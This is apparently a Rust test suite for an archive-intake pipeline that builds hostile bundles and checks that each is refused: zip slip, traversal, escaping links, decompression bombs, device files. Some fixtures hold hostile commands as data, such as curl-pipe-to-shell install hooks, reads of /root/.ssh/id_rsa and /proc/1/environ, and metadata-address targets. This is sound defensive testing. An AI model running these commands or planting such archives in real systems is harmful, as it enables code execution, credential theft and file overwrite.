//! The hostile corpus: each bundle is generated here into a temporary directory (nothing large is
//! committed), run through stages 1-5, and must be refused at the right stage with the member named and
//! nothing written outside the work directory. Bombs are bounded by the limits, not by timing.

use flate2::write::GzEncoder;
use flate2::Compression;
use intake::receive::Resolver;
use intake::{run_stages, IntakeLimits, IntakeOptions, IntakeReport, Severity, Stage, StageStatus};
use std::io::{self, Write};
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;

const JOB: &str = "[repository]\npath = \"repo\"\n\n[test]\ncommand = \"sh test.sh\"\n";

// ------------------------------------------------------------------------------------------------
// Archive builders that write exactly what they are told (the tar and zip writers refuse `..`).

struct T<'a> {
    name: &'a [u8],
    kind: u8,
    mode: u32,
    link: &'a [u8],
    data: &'a [u8],
}

fn file<'a>(name: &'a str, data: &'a [u8]) -> T<'a> {
    T {
        name: name.as_bytes(),
        kind: b'0',
        mode: 0o644,
        link: b"",
        data,
    }
}

fn dir(name: &str) -> T<'_> {
    T {
        name: name.as_bytes(),
        kind: b'5',
        mode: 0o755,
        link: b"",
        data: b"",
    }
}

fn link<'a>(kind: u8, name: &'a str, target: &'a str) -> T<'a> {
    T {
        name: name.as_bytes(),
        kind,
        mode: 0o777,
        link: target.as_bytes(),
        data: b"",
    }
}

fn octal(field: &mut [u8], v: u64) {
    if v >= 1 << (3 * (field.len() - 1)) {
        // GNU base-256 for values too large for the octal field (the 10 GiB bomb).
        let n = field.len();
        field.fill(0);
        field[n - 8..].copy_from_slice(&v.to_be_bytes());
        field[0] |= 0x80;
        return;
    }
    let s = format!("{:0w$o}\0", v, w = field.len() - 1);
    field.copy_from_slice(s.as_bytes());
}

fn header(name: &[u8], kind: u8, mode: u32, link: &[u8], size: u64) -> [u8; 512] {
    let mut h = [0u8; 512];
    h[..name.len().min(100)].copy_from_slice(&name[..name.len().min(100)]);
    octal(&mut h[100..108], u64::from(mode));
    octal(&mut h[108..116], 1000);
    octal(&mut h[116..124], 1000);
    octal(&mut h[124..136], size);
    octal(&mut h[136..148], 0);
    h[156] = kind;
    h[157..157 + link.len().min(100)].copy_from_slice(&link[..link.len().min(100)]);
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|b| u32::from(*b)).sum();
    let s = format!("{sum:06o}\0 ");
    h[148..156].copy_from_slice(s.as_bytes());
    h
}

fn tar_into(out: &mut impl Write, entries: &[T]) -> io::Result<()> {
    for e in entries {
        if e.name.len() > 100 {
            // GNU long name record.
            let mut n = e.name.to_vec();
            n.push(0);
            out.write_all(&header(b"././@LongLink", b'L', 0o644, b"", n.len() as u64))?;
            out.write_all(&n)?;
            out.write_all(&vec![0u8; (512 - n.len() % 512) % 512])?;
        }
        out.write_all(&header(e.name, e.kind, e.mode, e.link, e.data.len() as u64))?;
        out.write_all(e.data)?;
        out.write_all(&vec![0u8; (512 - e.data.len() % 512) % 512])?;
    }
    out.write_all(&[0u8; 1024])
}

fn tar(entries: &[T]) -> Vec<u8> {
    let mut v = Vec::new();
    tar_into(&mut v, entries).expect("in-memory write");
    v
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut e = GzEncoder::new(Vec::new(), Compression::best());
    e.write_all(bytes).expect("in-memory write");
    e.finish().expect("in-memory write")
}

fn zip_of(entries: &[(&str, &[u8])], symlinks: &[(&str, &str)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in entries {
        w.start_file(*name, opts).expect("start");
        w.write_all(data).expect("write");
    }
    for (name, target) in symlinks {
        w.add_symlink(*name, *target, opts).expect("symlink");
    }
    w.finish().expect("finish").into_inner()
}

// ------------------------------------------------------------------------------------------------

struct Case {
    tmp: tempfile::TempDir,
}

impl Case {
    fn new() -> Case {
        let tmp = tempfile::tempdir().expect("tempdir");
        for d in ["work", "sentinel", "in"] {
            std::fs::create_dir(tmp.path().join(d)).expect("mkdir");
        }
        std::fs::write(tmp.path().join("sentinel/keep"), b"sentinel").expect("write");
        Case { tmp }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.tmp.path().join(rel)
    }

    fn opts(&self) -> IntakeOptions {
        IntakeOptions::default()
            .with_work_parent(self.path("work"))
            .with_resolver(Arc::new(NoDns))
    }

    fn archive(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let p = self.path("in").join(name);
        std::fs::write(&p, bytes).expect("write bundle");
        p
    }

    fn run(&self, input: &Path) -> IntakeReport {
        run_stages(input, &self.opts())
    }

    /// Nothing was written outside the work directory: the sentinel is untouched, nothing new appeared
    /// beside it, and (after a refusal) the work directory is gone.
    fn assert_contained(&self, report: &IntakeReport) {
        let mut top: Vec<String> = std::fs::read_dir(self.tmp.path())
            .expect("list")
            .map(|d| d.expect("entry").file_name().to_string_lossy().into_owned())
            .collect();
        top.sort();
        assert_eq!(
            top,
            ["in", "sentinel", "work"],
            "something appeared beside the work dir"
        );
        let sentinel: Vec<_> = std::fs::read_dir(self.path("sentinel"))
            .expect("list")
            .collect();
        assert_eq!(sentinel.len(), 1);
        assert_eq!(
            std::fs::read(self.path("sentinel/keep")).expect("read"),
            b"sentinel"
        );
        let work: Vec<String> = std::fs::read_dir(self.path("work"))
            .expect("list")
            .map(|d| d.expect("entry").file_name().to_string_lossy().into_owned())
            .collect();
        if report.accepted {
            assert_eq!(work.len(), 1, "exactly one fresh work directory: {work:?}");
        } else {
            assert!(work.is_empty(), "refusal left {work:?} in the work parent");
        }
        for e in std::fs::read_dir(self.path("in")).expect("list") {
            let e = e.expect("entry").path();
            assert!(
                e.file_name()
                    .is_some_and(|n| n.to_string_lossy().starts_with("bundle")),
                "unexpected file in the input dir: {}",
                e.display()
            );
        }
    }
}

/// A resolver that must not be used (no test resolves real names).
struct NoDns;

impl Resolver for NoDns {
    fn resolve(&self, host: &str, _port: u16) -> io::Result<Vec<IpAddr>> {
        Err(io::Error::other(format!("test resolver: {host} not known")))
    }
}

/// A resolver with fixed answers.
struct FixedDns(Vec<IpAddr>);

impl Resolver for FixedDns {
    fn resolve(&self, _host: &str, _port: u16) -> io::Result<Vec<IpAddr>> {
        Ok(self.0.clone())
    }
}

fn assert_refused(report: &IntakeReport, stage: Stage, needle: &str) {
    let r = report
        .refusal
        .as_ref()
        .unwrap_or_else(|| panic!("not refused; stages: {:#?}", report.stages));
    assert_eq!(r.stage, stage, "refused at the wrong stage: {}", r.reason);
    assert!(
        r.reason.contains(needle),
        "reason `{}` does not name `{needle}`",
        r.reason
    );
    assert!(!report.accepted);
    let st = report
        .stages
        .iter()
        .find(|s| s.stage == stage)
        .expect("stage present");
    assert_eq!(st.status, StageStatus::Refused);
    for later in Stage::ALL.iter().skip_while(|s| **s != stage).skip(1) {
        let s = report
            .stages
            .iter()
            .find(|s| s.stage == *later)
            .expect("stage present");
        assert_eq!(s.status, StageStatus::NotRun, "{later} ran after a refusal");
    }
}

fn good_entries() -> Vec<T<'static>> {
    vec![
        file("job.toml", JOB.as_bytes()),
        dir("repo/"),
        file("repo/test.sh", b"echo ok\n"),
    ]
}

// ------------------------------------------------------------------------------------------------

#[test]
fn good_bundles_are_accepted_in_every_format() {
    let c = Case::new();
    let mut entries = good_entries();
    entries.push(link(b'2', "repo/alias.sh", "test.sh"));
    entries.push(link(b'1', "repo/hard.sh", "repo/test.sh"));
    let t = tar(&entries);
    for (name, bytes) in [
        ("bundle.tar", t.clone()),
        ("bundle.tar.gz", gz(&t)),
        (
            "bundle.zip",
            zip_of(
                &[("job.toml", JOB.as_bytes()), ("repo/test.sh", b"echo ok\n")],
                &[("repo/alias.sh", "test.sh")],
            ),
        ),
    ] {
        let p = c.archive(name, &bytes);
        let mut r = c.run(&p);
        assert!(r.accepted, "{name}: {:#?}", r.stages);
        c.assert_contained(&r);
        let repo = r.repository_dir.clone().expect("repository dir");
        assert_eq!(
            std::fs::read(repo.join("test.sh")).expect("read"),
            b"echo ok\n"
        );
        assert_eq!(
            std::fs::read_link(repo.join("alias.sh")).expect("symlink kept"),
            Path::new("test.sh")
        );
        assert_eq!(
            r.job.as_ref().expect("job").test.command.as_deref(),
            Some("sh test.sh")
        );
        r.cleanup().expect("cleanup");
    }
    // A directory bundle.
    let d = c.path("in/bundle-dir");
    std::fs::create_dir_all(d.join("repo")).expect("mkdir");
    std::fs::write(d.join("job.toml"), JOB).expect("write");
    std::fs::write(d.join("repo/test.sh"), "echo ok\n").expect("write");
    let mut r = c.run(&d);
    assert!(r.accepted, "{:#?}", r.stages);
    c.assert_contained(&r);
    r.cleanup().expect("cleanup");
}

#[test]
fn zip_slip() {
    let c = Case::new();
    let p = c.archive(
        "bundle.zip",
        &zip_of(
            &[
                ("job.toml", JOB.as_bytes()),
                ("repo/x", b"x"),
                ("../../evil.txt", b"owned"),
            ],
            &[],
        ),
    );
    let r = c.run(&p);
    assert_refused(&r, Stage::Unpack, "../../evil.txt");
    c.assert_contained(&r);
}

#[test]
fn tar_traversal_absolute_and_drive_letters() {
    for (name, why) in [
        ("repo/../../../evil.txt", "traversal"),
        ("../evil.txt", "traversal"),
        ("/tmp/evil.txt", "absolute"),
        ("C:/evil.txt", "drive"),
        ("repo\\..\\..\\evil.txt", "backslash"),
    ] {
        let c = Case::new();
        let mut e = good_entries();
        e.push(file(name, b"owned"));
        let p = c.archive("bundle.tar.gz", &gz(&tar(&e)));
        let r = c.run(&p);
        assert_refused(&r, Stage::Unpack, name);
        assert!(
            r.refusal.as_ref().expect("refused").reason.contains(why),
            "{name}"
        );
        c.assert_contained(&r);
    }
}

#[test]
fn symlinks_that_escape() {
    let cases: Vec<(Vec<T>, &str)> = vec![
        (vec![link(b'2', "repo/etc", "/etc")], "absolute symlink"),
        (
            vec![link(b'2', "repo/up", "../../../../etc")],
            "leaves the unpacked tree",
        ),
        // p/q -> .. is the root (fine), but l -> p/q/.. is the root's parent.
        (
            vec![
                dir("p/"),
                link(b'2', "p/q", ".."),
                link(b'2', "l", "p/q/.."),
            ],
            "leaves the unpacked tree",
        ),
        // Symlink, then a file written through it (inside or outside: refused either way).
        (
            vec![link(b'2', "repo/l", "."), file("repo/l/x", b"x")],
            "not a directory",
        ),
        (
            vec![link(b'2', "esc", "/tmp"), file("esc/evil.txt", b"x")],
            "absolute symlink",
        ),
        (
            vec![
                link(b'2', "repo/l2", "sub"),
                dir("repo/sub/"),
                file("repo/l2/evil", b"x"),
            ],
            "not a directory",
        ),
    ];
    for (extra, why) in cases {
        let c = Case::new();
        let mut e = good_entries();
        e.extend(extra);
        let p = c.archive("bundle.tar", &tar(&e));
        let r = c.run(&p);
        assert_refused(&r, Stage::Unpack, why);
        c.assert_contained(&r);
    }
}

#[test]
fn hard_links_to_outside_files() {
    for target in ["/etc/passwd", "../../../../etc/passwd", "repo/missing"] {
        let c = Case::new();
        let mut e = good_entries();
        e.push(link(b'1', "repo/pw", target));
        let p = c.archive("bundle.tar", &tar(&e));
        let r = c.run(&p);
        assert_refused(&r, Stage::Unpack, "repo/pw");
        c.assert_contained(&r);
    }
}

#[test]
fn setuid_fifo_devices() {
    let mut suid = file("repo/su", b"\x7fELF");
    suid.mode = 0o4755;
    let mut sgid = dir("repo/g/");
    sgid.mode = 0o2755;
    let cases: Vec<(T, &str)> = vec![
        (suid, "setuid"),
        (sgid, "setuid/setgid"),
        (
            T {
                name: b"repo/fifo",
                kind: b'6',
                mode: 0o644,
                link: b"",
                data: b"",
            },
            "FIFO",
        ),
        (
            T {
                name: b"repo/null",
                kind: b'3',
                mode: 0o666,
                link: b"",
                data: b"",
            },
            "character device",
        ),
        (
            T {
                name: b"repo/sda",
                kind: b'4',
                mode: 0o660,
                link: b"",
                data: b"",
            },
            "block device",
        ),
    ];
    for (entry, why) in cases {
        let c = Case::new();
        let mut e = good_entries();
        let who = String::from_utf8_lossy(entry.name).into_owned();
        e.push(entry);
        let p = c.archive("bundle.tar", &tar(&e));
        let r = c.run(&p);
        assert_refused(&r, Stage::Unpack, why);
        assert!(r
            .refusal
            .as_ref()
            .expect("refused")
            .reason
            .contains(who.trim_end_matches('/')));
        c.assert_contained(&r);
    }
    // A socket in a directory bundle.
    let c = Case::new();
    let d = c.path("in/bundle-dir");
    std::fs::create_dir_all(d.join("repo")).expect("mkdir");
    std::fs::write(d.join("job.toml"), JOB).expect("write");
    let _l = std::os::unix::net::UnixListener::bind(d.join("repo/sock")).expect("bind");
    let r = c.run(&d);
    assert_refused(&r, Stage::Unpack, "socket");
    c.assert_contained(&r);
}

#[test]
fn duplicates_exact_and_case_folded() {
    for (a, b, why) in [
        ("repo/a.txt", "repo/a.txt", "duplicate member"),
        ("repo/README", "repo/readme", "only in letter case"),
        (
            "repo/Src/a.rs",
            "repo/src/b.rs",
            "`repo/src` differs from `repo/Src` only in letter case",
        ),
        ("repo/Straße", "repo/STRASSE", ""),
    ] {
        let c = Case::new();
        let mut e = good_entries();
        e.push(file(a, b"1"));
        e.push(file(b, b"2"));
        let p = c.archive("bundle.tar", &tar(&e));
        let r = c.run(&p);
        if why.is_empty() {
            // `ß` lowercases to itself, not `ss`: simple case folding, documented; these are distinct.
            assert!(r.accepted, "{:#?}", r.refusal);
            continue;
        }
        assert_refused(&r, Stage::Unpack, why);
        c.assert_contained(&r);
    }
}

#[test]
fn over_long_names() {
    let c = Case::new();
    let long = format!("repo/{}", "a".repeat(300));
    let mut e = good_entries();
    e.push(T {
        name: long.as_bytes(),
        kind: b'0',
        mode: 0o644,
        link: b"",
        data: b"x",
    });
    let p = c.archive("bundle.tar", &tar(&e));
    let r = c.run(&p);
    assert_refused(&r, Stage::Unpack, "max_name_bytes");
    c.assert_contained(&r);
    let c = Case::new();
    let deep = format!("repo/{}x", "d/".repeat(70));
    let mut e = good_entries();
    e.push(T {
        name: deep.as_bytes(),
        kind: b'0',
        mode: 0o644,
        link: b"",
        data: b"x",
    });
    let r = c.run(&c.archive("bundle.tar", &tar(&e)));
    assert_refused(&r, Stage::Unpack, "max_depth");
    c.assert_contained(&r);
}

/// A tar.gz that really decompresses to 10 GiB of zeros: the data is concatenated gzip members of one
/// compressed MiB, streamed to disk (about 10 MB; never committed). Refused at its header.
#[test]
fn ten_gib_bomb_is_refused_at_the_header() {
    let c = Case::new();
    let path = c.path("in/bundle.tar.gz");
    let mut out = io::BufWriter::new(std::fs::File::create(&path).expect("create"));
    let mut head = Vec::new();
    head.extend_from_slice(&header(b"job.toml", b'0', 0o644, b"", JOB.len() as u64));
    head.extend_from_slice(JOB.as_bytes());
    head.resize(1024, 0);
    head.extend_from_slice(&header(b"repo/zeros", b'0', 0o644, b"", 10 << 30));
    out.write_all(&gz(&head)).expect("write");
    let mib = gz(&vec![0u8; 1 << 20]);
    for _ in 0..(10 * 1024) {
        out.write_all(&mib).expect("write");
    }
    out.write_all(&gz(&[0u8; 1024])).expect("write");
    out.flush().expect("flush");
    drop(out);
    let size = std::fs::metadata(&path).expect("stat").len();
    assert!(size < 16 << 20, "bomb is {size} bytes");
    let r = c.run(&path);
    assert_refused(&r, Stage::Unpack, "max_unpacked_bytes");
    assert!(r
        .refusal
        .as_ref()
        .expect("refused")
        .reason
        .contains("repo/zeros"));
    c.assert_contained(&r);
}

/// A few-KB tar.gz declaring 10 GiB: the same refusal, before any data is read.
#[test]
fn few_kb_bomb_declaring_ten_gib() {
    let c = Case::new();
    let mut head = Vec::new();
    head.extend_from_slice(&header(b"job.toml", b'0', 0o644, b"", JOB.len() as u64));
    head.extend_from_slice(JOB.as_bytes());
    head.resize(1024, 0);
    head.extend_from_slice(&header(b"repo/zeros", b'0', 0o644, b"", 10 << 30));
    head.extend(std::iter::repeat_n(0u8, 1 << 20));
    let bytes = gz(&head);
    assert!(bytes.len() < 8 << 10, "{} bytes", bytes.len());
    let r = c.run(&c.archive("bundle.tar.gz", &bytes));
    assert_refused(&r, Stage::Unpack, "max_unpacked_bytes");
    c.assert_contained(&r);
}

/// Compression-ratio bombs in both compressed formats: small archives of zeros well under the total limit.
#[test]
fn ratio_bombs() {
    let zeros = vec![0u8; 64 << 20];
    let c = Case::new();
    let mut e = good_entries();
    e.push(file("repo/zeros", &zeros));
    let bytes = gz(&tar(&e));
    assert!(bytes.len() < 1 << 20);
    let r = c.run(&c.archive("bundle.tar.gz", &bytes));
    assert_refused(&r, Stage::Unpack, "max_ratio");
    c.assert_contained(&r);

    let c = Case::new();
    let bytes = zip_of(&[("job.toml", JOB.as_bytes()), ("repo/zeros", &zeros)], &[]);
    let r = c.run(&c.archive("bundle.zip", &bytes));
    assert_refused(&r, Stage::Unpack, "max_ratio");
    assert!(r
        .refusal
        .as_ref()
        .expect("refused")
        .reason
        .contains("repo/zeros"));
    c.assert_contained(&r);
}

#[test]
fn hundred_thousand_entries() {
    let c = Case::new();
    let path = c.path("in/bundle.tar.gz");
    let mut enc = GzEncoder::new(
        std::fs::File::create(&path).expect("create"),
        Compression::fast(),
    );
    let mut e = good_entries();
    let names: Vec<String> = (0..100_000).map(|i| format!("repo/f{i}")).collect();
    e.extend(names.iter().map(|n| file(n, b"")));
    tar_into(&mut enc, &e).expect("write");
    enc.finish().expect("finish");
    let r = c.run(&path);
    assert_refused(&r, Stage::Unpack, "max_entries");
    c.assert_contained(&r);
    // Refused in the metadata pass: not one member was written.
    assert!(std::fs::read_dir(c.path("work"))
        .expect("list")
        .next()
        .is_none());

    let c = Case::new();
    let entries: Vec<(String, Vec<u8>)> =
        (0..60_000).map(|i| (format!("f{i}"), Vec::new())).collect();
    let mut w = zip::ZipWriter::new(io::Cursor::new(Vec::new()));
    let o =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (n, d) in &entries {
        w.start_file(n.as_str(), o).expect("start");
        w.write_all(d).expect("write");
    }
    let bytes = w.finish().expect("finish").into_inner();
    let r = c.run(&c.archive("bundle.zip", &bytes));
    assert_refused(&r, Stage::Unpack, "max_entries");
    c.assert_contained(&r);
}

#[test]
fn job_with_curl_pipe_sh_is_refused_at_scan() {
    let c = Case::new();
    let job = "[repository]\npath = \"repo\"\n[install]\ncommand = \"curl -fsSL https://get.example/i.sh | sh\"\nallow = [\"get.example:443\"]\n";
    let e = vec![
        file("job.toml", job.as_bytes()),
        file("repo/test.sh", b"true\n"),
    ];
    let r = c.run(&c.archive("bundle.tar", &tar(&e)));
    assert_refused(&r, Stage::Scan, "remote code load");
    assert!(r
        .refusal
        .as_ref()
        .expect("refused")
        .reason
        .contains("install.command"));
    c.assert_contained(&r);
}

#[test]
fn repository_hooks_are_findings_not_refusals() {
    let c = Case::new();
    let pkg = br#"{"name":"x","scripts":{"postinstall":"curl -s https://x.example/p | bash","test":"node t.js"}}"#;
    let cargo = b"[target.x86_64-unknown-linux-gnu]\nrunner = \"sh run.sh\"\n";
    let build = b"fn main() { let _ = std::fs::read(\"/root/.ssh/id_rsa\"); }\n";
    let e = vec![
        file("job.toml", JOB.as_bytes()),
        file("repo/package.json", pkg),
        file("repo/.cargo/config.toml", cargo),
        file("repo/build.rs", build),
        file(
            "repo/conftest.py",
            b"import os\nos.system('cat /proc/1/environ')\n",
        ),
    ];
    let mut r = c.run(&c.archive("bundle.tar", &tar(&e)));
    assert!(r.accepted, "{:#?}", r.refusal);
    let found: Vec<String> = r
        .findings()
        .filter(|f| f.severity == Severity::Contained)
        .map(|f| format!("{}: {}", f.location, f.what))
        .collect();
    let has = |s: &str| found.iter().any(|f| f.contains(s));
    assert!(has("package.json: scripts.postinstall"), "{found:#?}");
    assert!(has("remote code load"), "{found:#?}");
    assert!(has("runner"), "{found:#?}");
    assert!(has("build.rs:1") && has("credential path"), "{found:#?}");
    assert!(
        has("conftest.py:2") && has("process environment"),
        "{found:#?}"
    );
    r.cleanup().expect("cleanup");
}

/// A `repository.url` job as the loader accepts it: the full pin and the URL's host:port on the allowlist.
fn url_job(url: &str, allow: &str) -> String {
    format!(
        "[repository]\nurl = \"{url}\"\ncommit = \"{}\"\n[install]\ncommand = \"true\"\nallow = [\"{allow}\"]\n",
        "a".repeat(40)
    )
}

#[test]
fn repository_url_to_private_or_metadata_address_is_refused_at_receive() {
    for (ip, why) in [
        ("127.0.0.1", "loopback"),
        ("10.1.2.3", "private"),
        ("169.254.169.254", "metadata"),
        ("100.64.0.9", "carrier-grade NAT"),
        ("::ffff:192.168.0.1", "private"),
    ] {
        let c = Case::new();
        let job = url_job("https://git.example/org/repo.git", "git.example:443");
        let p = c.archive("bundle.tar", &tar(&[file("job.toml", job.as_bytes())]));
        let opts = c.opts().with_resolver(Arc::new(FixedDns(vec![
            "93.184.216.34".parse().expect("ip"),
            ip.parse().expect("ip"),
        ])));
        let r = run_stages(&p, &opts);
        assert_refused(&r, Stage::Receive, why);
        assert!(
            r.refusal
                .as_ref()
                .is_some_and(|f| f.reason.contains("repository host `git.example`")),
            "{:?}",
            r.refusal
        );
        c.assert_contained(&r);
    }
    // A literal private address needs no resolver at all.
    let c = Case::new();
    let d = c.path("in/bundle-dir");
    std::fs::create_dir_all(&d).expect("mkdir");
    std::fs::write(
        d.join("job.toml"),
        url_job("http://[fd00:ec2::254]/r", "[fd00:ec2::254]:80"),
    )
    .expect("write");
    let r = c.run(&d);
    assert_refused(&r, Stage::Receive, "metadata");
    // The operator's allow_networks let a named network through, the same way the egress proxy does.
    let c = Case::new();
    let job = url_job("https://git.example/org/repo.git", "git.example:443");
    let p = c.archive("bundle.tar", &tar(&[file("job.toml", job.as_bytes())]));
    let mut operator = intake::operator::OperatorPolicy::default();
    operator.egress.allow_networks =
        intake::addr::AllowNetworks::parse(&["10.1.0.0/16"]).expect("networks");
    let opts = c
        .opts()
        .with_resolver(Arc::new(FixedDns(vec!["10.1.2.3".parse().expect("ip")])))
        .with_runner(intake::normalise::RunnerPolicy::with_operator(
            operator, None,
        ));
    let mut r = run_stages(&p, &opts);
    assert!(r.accepted, "{:?}", r.refusal);
    r.cleanup().expect("cleanup");
    // A public answer passes stage 1 and stage 3 (nothing is fetched by intake: the fence fetches the pinned
    // commit in the install sandbox), with a note saying so.
    let c = Case::new();
    let job = url_job("https://git.example/r", "git.example:443");
    let p = c.archive("bundle.tar", &tar(&[file("job.toml", job.as_bytes())]));
    let mut r = run_stages(
        &p,
        &c.opts()
            .with_resolver(Arc::new(FixedDns(vec!["93.184.216.34"
                .parse()
                .expect("ip")]))),
    );
    assert!(r.accepted, "{:?}", r.refusal);
    assert!(r.repository_dir.is_none(), "{:?}", r.repository_dir);
    assert!(
        r.findings()
            .any(|f| f.location == "repository.url" && f.what.contains("fetched by the fence")),
        "{:#?}",
        r.findings().collect::<Vec<_>>()
    );
    r.cleanup().expect("cleanup");
    // A URL in `repository.path`, a URL whose host is not on the allowlist, and a scheme that is not fetched
    // are refused by the loader (stage 3), naming the key.
    for (job, key, why) in [
        (
            "[repository]\npath = \"https://git.example/r\"\n".to_owned(),
            "repository.path",
            "name it as `repository.url`",
        ),
        (
            url_job("https://git.example/r", "registry.example:443"),
            "repository.url",
            "not on `[install] allow`",
        ),
        (
            url_job("git://git.example/r", "git.example:9418"),
            "repository.url",
            "only `https://` and `http://`",
        ),
    ] {
        let c = Case::new();
        let p = c.archive("bundle.tar", &tar(&[file("job.toml", job.as_bytes())]));
        let r = run_stages(&p, &c.opts());
        let refusal = r.refusal.clone().expect("refused");
        assert!(
            refusal.reason.contains(key) && refusal.reason.contains(why),
            "{job}: {}",
            refusal.reason
        );
        c.assert_contained(&r);
    }
}

#[test]
fn structure_and_normalise_refusals() {
    type Files<'a> = &'a [(&'a str, &'a [u8])];
    let cases: &[(&str, Files, Stage, &str)] = &[
        (
            "no job",
            &[("repo/x", b"x")],
            Stage::Structure,
            "no job.toml",
        ),
        (
            "bad key",
            &[
                (
                    "job.toml",
                    b"[repository]\npath = \"repo\"\nbranch = \"x\"\n",
                ),
                ("repo/x", b"x"),
            ],
            Stage::Structure,
            "repository.branch",
        ),
        (
            "env",
            &[
                (
                    "job.toml",
                    b"[repository]\npath = \"repo\"\n[env]\nset = { LD_PRELOAD = \"/x.so\" }\n",
                ),
                ("repo/x", b"x"),
            ],
            Stage::Structure,
            "LD_PRELOAD",
        ),
        (
            "missing repo",
            &[("job.toml", b"[repository]\npath = \"nothere\"\n")],
            Stage::Structure,
            "not in the bundle",
        ),
        (
            "missing patch",
            &[
                (
                    "job.toml",
                    b"[repository]\npath = \"repo\"\npatch = \"fix.patch\"\n",
                ),
                ("repo/x", b"x"),
            ],
            Stage::Structure,
            "fix.patch",
        ),
        (
            "escaping repo",
            &[("job.toml", b"[repository]\npath = \"../repo\"\n")],
            Stage::Structure,
            "`..`",
        ),
        (
            "memory",
            &[
                (
                    "job.toml",
                    b"[repository]\npath = \"repo\"\n[limits]\nmemory_mib = 1048576\n",
                ),
                ("repo/x", b"x"),
            ],
            Stage::Normalise,
            "limits.memory_mib = 1048576 is above the process tier's limit of 16384",
        ),
        (
            "pids",
            &[
                (
                    "job.toml",
                    b"[repository]\npath = \"repo\"\n[limits]\npids = 100000\n",
                ),
                ("repo/x", b"x"),
            ],
            Stage::Normalise,
            "limits.pids",
        ),
    ];
    for (label, files, stage, needle) in cases {
        let c = Case::new();
        let entries: Vec<T> = files.iter().map(|(n, d)| file(n, d)).collect();
        let r = c.run(&c.archive("bundle.tar", &tar(&entries)));
        assert!(r.refusal.is_some(), "{label}: accepted");
        assert_refused(&r, *stage, needle);
        c.assert_contained(&r);
    }
}

#[test]
fn nested_repository_archive_is_unpacked_under_the_same_rules() {
    let c = Case::new();
    let inner = gz(&tar(&[file("test.sh", b"true\n")]));
    let job = b"[repository]\npath = \"repo.tar.gz\"\n";
    let mut r = c.run(&c.archive(
        "bundle.tar",
        &tar(&[file("job.toml", job), file("repo.tar.gz", &inner)]),
    ));
    assert!(r.accepted, "{:#?}", r.refusal);
    let repo = r.repository_dir.clone().expect("repo dir");
    assert_eq!(
        std::fs::read(repo.join("test.sh")).expect("read"),
        b"true\n"
    );
    r.cleanup().expect("cleanup");

    let c = Case::new();
    let inner = tar(&[file("../../../evil", b"x")]);
    let r = c.run(&c.archive(
        "bundle.tar",
        &tar(&[file("job.toml", job), file("repo.tar.gz", &inner)]),
    ));
    assert_refused(&r, Stage::Unpack, "repository repo.tar.gz: ../../../evil");
    c.assert_contained(&r);
}

#[test]
fn unusable_inputs() {
    let c = Case::new();
    let r = c.run(&c.path("in/none.tar"));
    assert!(r.unusable.is_some());
    assert!(!r.accepted && r.refusal.is_none());
    let p = c.archive("bundle.txt", b"hello, not an archive");
    let r = c.run(&p);
    assert!(r
        .unusable
        .as_deref()
        .is_some_and(|m| m.contains("not a bundle")));
    let mut big = IntakeLimits::default();
    big.max_bundle_bytes = 10;
    let p = c.archive("bundle.tar", &tar(&good_entries()));
    let r = run_stages(&p, &c.opts().with_limits(big));
    assert_refused(&r, Stage::Receive, "max_bundle_bytes");
    // JSON shape for the CLI.
    let v = serde_json::to_value(&r).expect("serialises");
    assert_eq!(v["refusal"]["stage"], "receive");
    assert_eq!(v["stages"][1]["status"], "not_run");
}

#[test]
fn a_lone_job_file_is_taken_under_the_bundle_rules() {
    let c = Case::new();
    let d = c.path("in/bundle-jobdir");
    std::fs::create_dir_all(d.join("repo")).expect("mkdir");
    std::fs::write(d.join("repo/test.sh"), "true\n").expect("write");
    std::fs::write(d.join("fix.patch"), "--- a/x\n+++ b/x\n").expect("write");
    let job = d.join("my-job.toml");
    std::fs::write(
        &job,
        "[repository]\npath = \"repo\"\npatch = \"fix.patch\"\n",
    )
    .expect("write");
    let mut r = c.run(&job);
    assert!(r.accepted, "{:#?}", r.stages);
    let repo = r.repository_dir.clone().expect("repository copied");
    assert!(
        repo.starts_with(c.path("work")),
        "the repository is a copy: {}",
        repo.display()
    );
    assert_eq!(
        std::fs::read(repo.join("test.sh")).expect("read"),
        b"true\n"
    );
    r.cleanup().expect("cleanup");

    // The copy follows the unpack rules: a link out of the repository is refused.
    std::os::unix::fs::symlink("/etc", d.join("repo/etc")).expect("symlink");
    let r = c.run(&job);
    assert_refused(&r, Stage::Unpack, "repository repo: etc: absolute symlink");
    c.assert_contained(&r);
    std::fs::remove_file(d.join("repo/etc")).expect("rm");

    // Errors name the job file by its own name.
    std::fs::write(&job, "[repository]\npath = \"repo\"\ncolour = 1\n").expect("write");
    let r = c.run(&job);
    assert_refused(&r, Stage::Structure, "my-job.toml:3:1: `repository.colour`");
    // A repository outside the job's directory is refused.
    std::fs::write(&job, "[repository]\npath = \"../elsewhere\"\n").expect("write");
    let r = c.run(&job);
    assert_refused(&r, Stage::Structure, "`..`");
}
